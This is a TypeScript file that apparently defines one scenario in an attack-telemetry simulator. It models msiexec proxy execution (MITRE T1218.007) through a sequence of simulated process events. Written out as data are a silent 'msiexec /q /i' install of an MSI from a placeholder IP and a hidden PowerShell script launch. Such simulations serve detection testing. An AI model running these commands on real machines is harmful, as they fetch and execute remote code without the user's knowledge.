import { msiexec } from '../programs/proxies'
import { cmd, powershell } from '../programs/windows'
import { type AttackStory, atDesk } from './story'

/** A package installed straight from a web server. */
export const packageFromWeb: AttackStory = {
  name: 'package-from-web',
  technique: 'T1218.007',
  quiet: false,
  days: 1,
  victims: 1,
  suits: atDesk,
  run: (stage) => {
    const { day, campaign } = stage
    const shell = stage.act('T1059.003', 0, day.shell, cmd, 'cmd.exe /c curl-helper.cmd')
    stage.act(
      'T1218.007',
      1,
      shell,
      msiexec,
      `msiexec  /q /i http://198.51.100.33/${campaign.word(5)}/update.msi`,
    )
    const service = day.spawn(
      stage.beginMs + 3_000,
      day.machine.serviceControl,
      msiexec,
      'C:\\Windows\\system32\\msiexec.exe /V',
    )
    const custom = stage.act(
      'T1218.007',
      8,
      service,
      msiexec,
      `C:\\Windows\\System32\\MsiExec.exe -Embedding ${stage.random.hex(32).toUpperCase()}`,
    )
    stage.act('T1059.001', 11, custom, powershell, 'powershell.exe -w hidden -f C:\\ProgramData\\inst.ps1')
  },
}
